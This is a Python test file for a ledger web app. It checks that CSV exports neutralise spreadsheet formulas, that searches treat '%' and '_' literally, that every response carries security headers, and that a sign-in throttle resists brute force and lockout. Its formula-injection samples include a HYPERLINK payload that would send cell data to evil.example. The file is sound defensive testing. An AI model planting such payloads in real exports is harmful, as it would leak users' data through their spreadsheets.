"""Web hardening: CSV cells that no spreadsheet runs, searches where `%` and `_` are literal,
security headers on every response, and a sign-in throttle that is atomic and cannot be used to
lock someone out from another address."""

from __future__ import annotations

import csv
import http.client
import io
import re
import threading
from collections.abc import Iterator
from concurrent.futures import ProcessPoolExecutor
from decimal import Decimal
from typing import Any

import factories as f
import pytest
from click.testing import CliRunner
from werkzeug.serving import make_server

from ledger.csvsafe import FORMULA_STARTS, SafeDictWriter, safe_cell
from projections.queries import enterprises
from projections.runner import catch_up
from tests.web.conftest import PASSWORD, csrf_token, sign_in
from web import SECURITY_HEADERS, charts
from web.auth import SharedSignInThrottle, SignInThrottle, throttle_address

#: Texts a spreadsheet would run as formulas (or that some programs treat so).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "-2", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


# -- CSV ---------------------------------------------------------------------------------------


def _write(rows: list[dict[str, Any]], columns: list[str]) -> list[dict[str, str]]:
    out = io.StringIO()
    writer = SafeDictWriter(out, columns)
    writer.writeheader()
    writer.writerows(rows)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_csv_cells_that_start_like_a_formula_get_a_quote_and_read_back_as_text() -> None:
    rows = [{"name": text, "reason": f"理由 {text}", "amount_fen": -10_000} for text in FORMULAS]
    back = _write(rows, ["name", "reason", "amount_fen"])
    assert [r["name"] for r in back] == ["'" + text for text in FORMULAS]
    assert all(not r["name"].startswith(FORMULA_STARTS) for r in back)
    assert [r["reason"] for r in back] == [f"理由 {text}" for text in FORMULAS]  # not at the start
    assert {r["amount_fen"] for r in back} == {"-10000"}  # a number stays a number


def test_numbers_stay_numbers_and_text_is_judged_by_its_first_character() -> None:
    assert safe_cell(-100) == -100 and safe_cell(-1.5) == -1.5
    assert safe_cell(Decimal("-100.00")) == Decimal("-100.00")
    assert safe_cell("-100.00") == "'-100.00"  # text that looks like an amount is still text
    assert safe_cell(True) == "True" and safe_cell(None) is None
    assert safe_cell("松市监〔2025〕12号") == "松市监〔2025〕12号"
    assert safe_cell("a=b") == "a=b" and safe_cell("") == ""
    back = _write([{"v": 'say "=1"\n=2'}], ["v"])  # quotes and newlines survive the quoting
    assert back == [{"v": 'say "=1"\n=2'}]


def _formula_history(ledger: Any) -> list[str]:
    """Record facts whose document references (a CSV column of their own) look like formulas;
    returns the references as the ledger keeps them."""
    refs = ['=HYPERLINK("http://evil.example","x")', "+1", "-2", "@SUM(A1)"]
    commands = [
        (f.enterprise(f.USCC_C, name='=HYPERLINK("http://evil.example","企业")'), "olga"),
        (f.award("A-X1", uscc=f.USCC_C, decision_ref=refs[0]), "olga"),
        (f.award("A-X2", uscc=f.USCC_C, decision_ref=refs[1]), "olga"),
        (f.award("A-X3", uscc=f.USCC_C, decision_ref=refs[2]), "olga"),
        (f.disbursement("D-X1", award_reference="A-X1", voucher_no=refs[3]), "olga"),
    ]
    for result in ledger.execute_many(commands):
        assert not isinstance(result, Exception), result
    catch_up(ledger)
    return refs


def _assert_safe(rows: list[dict[str, str]], refs: list[str]) -> None:
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not (value or "").startswith(FORMULA_STARTS), (column, value)
    assert {r["doc_ref"] for r in rows} >= {"'" + ref for ref in refs}


def test_the_web_trail_export_neutralises_formulas(seeded: Any, as_user: Any) -> None:
    refs = _formula_history(seeded)
    response = as_user("aud").get(f"/exports/trail.csv?uscc={f.USCC_C}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    _assert_safe(rows, refs)
    assert all(r["position"].isdigit() for r in rows)


def test_the_cli_trail_csv_neutralises_formulas(seeded: Any, database_url: str) -> None:
    from ledger.cli import cli

    refs = _formula_history(seeded)
    result = CliRunner().invoke(
        cli, ["--database-url", database_url, "audit", "trail", "--enterprise", f.USCC_C, "--csv"],
        catch_exceptions=False,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    _assert_safe(list(csv.DictReader(io.StringIO(result.stdout))), refs)


# -- search ------------------------------------------------------------------------------------


@pytest.fixture
def odd_names(app: Any) -> Any:
    """Three enterprises: one with `_` in its name, one with `%`, one with neither."""
    commands = [
        (f.enterprise(f.USCC_A, name="上海百分之百_科技有限公司"), "olga"),
        (f.enterprise(f.USCC_B, name="上海100%精密有限公司"), "olga"),
        (f.enterprise(f.USCC_C, name="上海普通科技有限公司"), "olga"),
    ]
    for result in app.execute_many(commands):
        assert not isinstance(result, Exception), result
    catch_up(app)
    return app


def test_percent_and_underscore_in_a_search_match_themselves(odd_names: Any) -> None:
    def names(text: str) -> list[str]:
        return sorted(e.name for e in enterprises(odd_names, search=text))

    assert names("%") == ["上海100%精密有限公司"]
    assert names("_") == ["上海百分之百_科技有限公司"]
    assert names("100%精密") == ["上海100%精密有限公司"]
    assert names("上海%有限") == [] and names("上海_00") == []
    assert names("\\") == [] and names("%%") == []
    assert len(names("上海")) == 3  # plain text still matches as before


def test_the_api_and_the_page_search_literally_too(odd_names: Any) -> None:
    from werkzeug.security import generate_password_hash

    from web import create_app

    odd_names.set_password_hash("vic", generate_password_hash(PASSWORD, method="pbkdf2:sha256:1000"),
                                actor="admin")  # fmt: skip
    client = create_app({"LEDGER_APP": odd_names, "TESTING": True, "SECRET_KEY": "t"}).test_client()
    assert sign_in(client, "vic").status_code == 302
    found = client.get("/api/v1/enterprises?search=%25").json
    items = found["enterprises"] if isinstance(found, dict) else found
    assert [e["uscc"] for e in items] == [f.USCC_B]
    page = client.get("/enterprises?q=_").get_data(as_text=True)
    assert "上海百分之百_科技有限公司" in page and "上海普通科技有限公司" not in page


# -- security headers --------------------------------------------------------------------------

EXAMPLES = {"uscc": f.USCC_A, "code": "M10", "position": 3, "filename": "style.css"}


def _assert_headers(response: Any, what: str) -> None:
    for name, value in SECURITY_HEADERS.items():
        assert response.headers.get(name) == value, (what, name, response.headers.get(name))
    policy = response.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy and "unsafe-inline" not in policy


def test_every_route_signed_in_or_not_and_every_error_carries_the_security_headers(
    web_app: Any, as_user: Any, token: Any
) -> None:
    @web_app.route("/__test_boom")
    def _boom() -> Any:
        raise RuntimeError("boom")

    web_app.config["PROPAGATE_EXCEPTIONS"] = False
    browser, anonymous, headers = as_user("admin"), web_app.test_client(), token("admin")
    seen = 0
    for rule in web_app.url_map.iter_rules():
        values = {name: EXAMPLES.get(name, "en") for name in rule.arguments}
        path = rule.build(values, append_unknown=False)[1]
        for method in sorted((rule.methods or set()) - {"OPTIONS"}):
            for who, client, extra in (("admin", browser, headers), ("anonymous", anonymous, {})):
                response = client.open(path, method=method, headers=extra)
                _assert_headers(response, (who, method, path, response.status_code))
                seen += 1
    assert seen >= 50
    statuses = set()
    for path, method in [("/no/such/page", "GET"), ("/api/v1/nothing", "GET"), ("/", "DELETE"),
                         ("/signin", "POST"), ("/__test_boom", "GET"), ("/api/v1/proofs/x", "GET")]:  # fmt: skip
        response = browser.open(path, method=method)
        statuses.add(response.status_code)
        _assert_headers(response, (method, path, response.status_code))
    assert {400, 404, 405, 500} <= statuses


def test_pages_carry_no_inline_script_or_style_and_link_the_chart_stylesheet(as_user: Any) -> None:
    browser = as_user("aud")
    for path in ["/", f"/enterprises/{f.USCC_A}", "/measures/M10", "/audit?position=3", "/signin"]:
        page = browser.get(path).get_data(as_text=True)
        assert not re.search(r"<script|<style|\sstyle=|\son[a-z]+=", page, re.IGNORECASE), path
        assert "/static/charts.css" in page
    assert browser.get("/static/charts.css").status_code == 200


def test_the_chart_stylesheet_is_what_pygal_writes() -> None:
    from pathlib import Path

    sheet = Path(charts.__file__).with_name("static") / "charts.css"
    assert sheet.read_text(encoding="utf-8") == charts.stylesheet(), (
        "regenerate: python -m web.charts > web/static/charts.css"
    )
    svg = charts.pie("t", [("a", 1.0), ("b", 2.0)])
    assert "<style" not in svg and "style=" not in svg and 'class="pygal-chart"' in svg


# -- the sign-in throttle ----------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["in-process", "shared-file"])
def test_forty_parallel_reservations_get_exactly_the_free_failures(kind: str, tmp_path: Any) -> None:
    if kind == "shared-file":  # two instances on one file, as two worker processes hold them
        path = str(tmp_path / "failures.sqlite3")
        throttles: list[Any] = [SharedSignInThrottle(path, 3), SharedSignInThrottle(path, 3)]
    else:
        throttles = [SignInThrottle(3)]
    waits: list[float] = []
    barrier = threading.Barrier(40)

    def attempt(i: int) -> None:
        barrier.wait()
        waits.append(throttles[i % len(throttles)].reserve("vic", "10.0.0.1"))

    threads = [threading.Thread(target=attempt, args=(i,)) for i in range(40)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(waits) == 40
    assert sum(1 for wait in waits if wait == 0) == 3


def _reserve_many(path: str) -> int:
    throttle = SharedSignInThrottle(path, 3)
    return sum(1 for _ in range(10) if throttle.reserve("vic", "10.0.0.1") == 0)


def test_worker_processes_share_one_count(tmp_path: Any) -> None:
    path = str(tmp_path / "failures.sqlite3")
    SharedSignInThrottle(path, 3)  # the file exists before the workers start, as in `ledger serve`
    with ProcessPoolExecutor(max_workers=4) as pool:
        granted = sum(pool.map(_reserve_many, [path] * 4))
    assert granted == 3
    assert SharedSignInThrottle(path, 3).reserve("vic", "10.0.0.2") == 0  # another address


def test_counts_are_per_pair_per_address_and_per_name() -> None:
    throttle = SignInThrottle(3)
    assert (throttle.address_failures, throttle.name_failures) == (30, 90)
    for _ in range(3):
        assert throttle.reserve("vic", "10.0.0.1") == 0
    assert throttle.reserve("vic", "10.0.0.1") > 0
    assert throttle.reserve("VIC", "10.0.0.1") > 0  # the same name in other letters
    assert throttle.reserve("vic", "10.0.0.2") == 0  # the person, from elsewhere
    assert throttle.reserve("ada", "10.0.0.1") == 0  # another name from the same address
    throttle.succeeded("vic", "10.0.0.2")
    # One address trying many names stops at the address limit (30 failures in all).
    spray = SignInThrottle(3)
    allowed = sum(1 for i in range(100) if spray.reserve(f"user{i}", "10.9.9.9") == 0)
    assert allowed == 30
    assert spray.reserve("vic", "10.9.9.10") == 0
    # Many addresses guessing one name stop at the name limit (90): 30 addresses are needed.
    botnet = SignInThrottle(3)
    allowed = sum(
        1 for i in range(100) for _ in range(3) if botnet.reserve("vic", f"10.1.{i}.1") == 0
    )
    assert allowed == 90
    # IPv6 addresses count by /64 network.
    assert throttle_address("2001:db8::1") == throttle_address("2001:db8::ffff") == "2001:db8::/64"
    assert throttle_address("::ffff:10.0.0.1") == "10.0.0.1"


def test_a_right_password_gives_back_its_reservation() -> None:
    throttle = SignInThrottle(3)
    for _ in range(2):
        assert throttle.reserve("vic", "10.0.0.1") == 0
    assert throttle.reserve("vic", "10.0.0.1") == 0
    throttle.succeeded("vic", "10.0.0.1")  # the third was right: the pair starts again
    for _ in range(3):
        assert throttle.reserve("vic", "10.0.0.1") == 0
    assert throttle.reserve("vic", "10.0.0.1") > 0


def test_the_throttle_file_is_shared_between_instances(tmp_path: Any) -> None:
    path = str(tmp_path / "failures.sqlite3")
    one, other = SharedSignInThrottle(path, 3), SharedSignInThrottle(path, 3)  # two worker processes
    for throttle in (one, other, one):
        assert throttle.reserve("vic", "10.0.0.1") == 0
    assert other.reserve("vic", "10.0.0.1") > 0 and one.reserve("vic", "10.0.0.1") > 0
    assert other.reserve("ada", "10.0.0.1") == 0
    one.succeeded("ada", "10.0.0.1")


class _Server:
    """The web app under a real threaded WSGI server on 127.0.0.1."""

    def __init__(self, app: Any) -> None:
        self.wsgi = make_server("127.0.0.1", 0, app, threaded=True)
        self.port = self.wsgi.server_port
        self.thread = threading.Thread(target=self.wsgi.serve_forever, daemon=True)
        self.thread.start()

    def request(self, method: str, path: str, body: str = "", cookie: str = "",
                source: str = "127.0.0.1") -> tuple[int, dict[str, str], str]:  # fmt: skip
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=120,
                                                source_address=(source, 0))  # fmt: skip
        headers = {"Cookie": cookie} if cookie else {}
        if body:
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        connection.request(method, path, body=body, headers=headers)
        response = connection.getresponse()
        text = response.read().decode()
        connection.close()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, text

    def form(self, source: str = "127.0.0.1") -> tuple[str, str]:
        """A session cookie and the CSRF token of a fresh sign-in form."""
        _, headers, page = self.request("GET", "/signin", source=source)
        token = re.search(r'name="csrf_token" value="([^"]+)"', page)
        assert token, page
        return headers["set-cookie"].split(";")[0], token.group(1)

    def sign_in(self, cookie: str, token: str, password: str, source: str = "127.0.0.1") -> Any:
        from urllib.parse import urlencode

        body = urlencode({"name": "vic", "password": password, "csrf_token": token})
        return self.request("POST", "/signin", body, cookie, source)

    def close(self) -> None:
        self.wsgi.shutdown()
        self.thread.join()


@pytest.fixture(params=["in-process", "shared-file"])
def server(request: Any, web_app: Any, tmp_path: Any) -> Iterator[_Server]:
    # The first wait is an hour so that nothing in the test depends on how fast it runs.
    if request.param == "shared-file":
        throttle = SharedSignInThrottle(str(tmp_path / "f.sqlite3"), 3, first_wait_s=3600.0)
    else:
        throttle = SignInThrottle(3, first_wait_s=3600.0)
    web_app.extensions["signin_throttle"] = throttle
    web_app.config["TESTING"] = False
    running = _Server(web_app)
    yield running
    running.close()


def test_forty_parallel_wrong_passwords_check_three_and_the_person_still_signs_in_elsewhere(
    server: _Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    import werkzeug.security

    checked: list[str] = []
    lock = threading.Lock()
    real_check = werkzeug.security.check_password_hash

    def counting_check(stored: str, password: str) -> bool:
        with lock:
            checked.append(password)
        return real_check(stored, password)

    # the ledger's users service imports it when it checks a password (ledger/users.py)
    monkeypatch.setattr(werkzeug.security, "check_password_hash", counting_check)
    forms = [server.form() for _ in range(40)]
    barrier = threading.Barrier(40)
    statuses: list[tuple[int, dict[str, str], str]] = []

    def attack(cookie: str, token: str) -> None:
        barrier.wait()
        statuses.append(server.sign_in(cookie, token, "wrong password"))

    threads = [threading.Thread(target=attack, args=form) for form in forms]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(checked) == 3  # at most the free failures, and the free ones were checked
    codes = sorted(status for status, _, _ in statuses)
    assert codes == [401] * 3 + [429] * 37
    refused = next((h, page) for status, h, page in statuses if status == 429)
    assert int(refused[0]["retry-after"]) > 0
    assert "登录失败次数过多" in refused[1] and "Too many failed sign-ins" in refused[1]
    for name, value in SECURITY_HEADERS.items():
        assert refused[0][name.lower()] == value

    # The attacker's address stays refused, even with the right password ...
    status, _, _ = server.sign_in(*server.form(), PASSWORD)
    assert status == 429 and len(checked) == 3
    # ... while the person, from another address, signs in.
    cookie, token = server.form(source="127.0.0.2")
    status, headers, _ = server.sign_in(cookie, token, PASSWORD, source="127.0.0.2")
    assert status == 302, status
    assert len(checked) == 4
    session = headers["set-cookie"].split(";")[0]
    assert server.request("GET", "/", cookie=session, source="127.0.0.2")[0] == 200


def test_forwarded_for_is_not_trusted(web_app: Any) -> None:
    web_app.extensions["signin_throttle"] = SignInThrottle(3, first_wait_s=3600.0)
    client = web_app.test_client()
    for i in range(3):
        token = csrf_token(client)
        response = client.post("/signin", data={"name": "vic", "password": "wrong", "csrf_token": token},
                               headers={"X-Forwarded-For": f"10.0.0.{i}"})  # fmt: skip
        assert response.status_code == 401
    token = csrf_token(client)
    response = client.post("/signin", data={"name": "vic", "password": PASSWORD, "csrf_token": token},
                           headers={"X-Forwarded-For": "10.0.0.99"})  # fmt: skip
    assert response.status_code == 429
    other = web_app.test_client()
    other.environ_base["REMOTE_ADDR"] = "192.0.2.7"
    assert sign_in(other, "vic").status_code == 302
